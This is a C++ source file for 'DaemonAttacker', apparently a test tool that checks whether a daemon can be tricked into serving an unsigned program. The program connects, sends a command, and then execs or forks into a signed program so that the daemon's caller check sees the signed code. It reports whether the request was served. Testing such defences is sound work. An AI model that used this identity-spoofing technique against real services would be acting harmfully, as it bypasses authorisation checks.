// An unsigned program that tries to have the daemon serve its request by
// handing its connection over to the signed application's code:
//
//   DaemonAttacker send-then-exec PROGRAM COMMAND
//       connects, sends COMMAND (the JSON of a ControlCommand) at once, and
//       becomes PROGRAM, so that the daemon finds PROGRAM when it looks.
//   DaemonAttacker fork-then-exec PROGRAM COMMAND
//       connects and forks; the parent becomes PROGRAM, the child keeps the
//       socket, waits for the daemon's greeting (a second at most), sends
//       COMMAND and prints one line: "served" when anything answered it, else
//       "refused greeted" or "refused ungreeted".
//
// PROGRAM keeps the input and output it is given.

#include "RawDaemonConnection.h"

#include <sys/types.h>
#include <unistd.h>

#include <cstdio>
#include <string>
#include <string_view>

namespace {

using namespace std::chrono_literals;

[[noreturn]] void become(const char* program)
{
    char* const argv[] = {const_cast<char*>(program), nullptr};
    execv(program, argv);
    std::perror("execv");
    _exit(3);
}

}  // namespace

int main(int argc, char** argv)
{
    if (argc != 4) {
        std::fputs("usage: DaemonAttacker send-then-exec|fork-then-exec PROGRAM COMMAND\n", stderr);
        return 2;
    }
    const std::string_view mode = argv[1];
    const char* program = argv[2];
    const std::string command = argv[3];
    const int connection = attack::connectToDaemon();
    if (connection < 0) {
        std::perror("connect");
        return 1;
    }
    if (mode == "send-then-exec") {
        attack::sendAll(connection, attack::performFrame(command));
        become(program);
    }
    if (mode != "fork-then-exec") {
        return 2;
    }
    const pid_t child = fork();
    if (child < 0) {
        std::perror("fork");
        return 1;
    }
    if (child > 0) {
        become(program);
    }
    const std::uint8_t first = attack::nextFrameKind(connection, 1s);
    const bool greeted = first == attack::greeting;
    const bool served = (greeted || first == attack::silence) &&
                        attack::sendAll(connection, attack::performFrame(command)) &&
                        attack::requestWasServed(connection, 5s);
    const std::string outcome = served ? "served\n" : greeted ? "refused greeted\n" : "refused ungreeted\n";
    if (write(STDOUT_FILENO, outcome.data(), outcome.size()) < 0) {
        _exit(1);
    }
    _exit(0);
}
